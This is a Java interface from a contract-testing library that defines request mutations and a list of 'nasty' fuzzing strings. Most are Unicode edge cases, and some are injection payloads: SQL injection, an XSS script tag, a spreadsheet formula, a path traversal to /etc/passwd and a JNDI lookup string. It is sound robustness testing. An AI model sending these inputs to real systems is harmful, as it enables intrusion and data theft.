package org.chuhai.testing.contract;

import java.util.List;

/** One way to make a request worse. */
sealed interface Mutation permits BodyMutation, RequestMutation {

    /** Texts that have broken programs before: NUL, right-to-left, combining, beyond the basic plane, SQL, markup. */
    List<String> NASTY_TEXTS = List.of(
            "a\u0000b",
            "\u202Eabc\u202C",
            "\u05E9\u05DC\u05D5\u05DD",
            "Z\u0351\u036B\u0343\u0336",
            "\uD83D\uDE9A\u200D\uD83D\uDCE6",
            "\uFEFF",
            "\uFFFF",
            "\u2028\u2029",
            "\u0130\u0131\u00DF",
            "' OR '1'='1",
            "%_\\",
            "<script>alert(1)</script>",
            "=HYPERLINK(\"http://example.org\")",
            "../../etc/passwd",
            "${jndi:ldap://example.org/a}",
            " ",
            "");

    /** Whether this draft has what the mutation works on. */
    boolean fits(Draft draft);

    /** Changes the draft, and says what was done. */
    String apply(Draft draft);

    static <T> T pick(Draft draft, List<T> choices) {
        return choices.get(draft.samples.random().nextInt(choices.size()));
    }
}
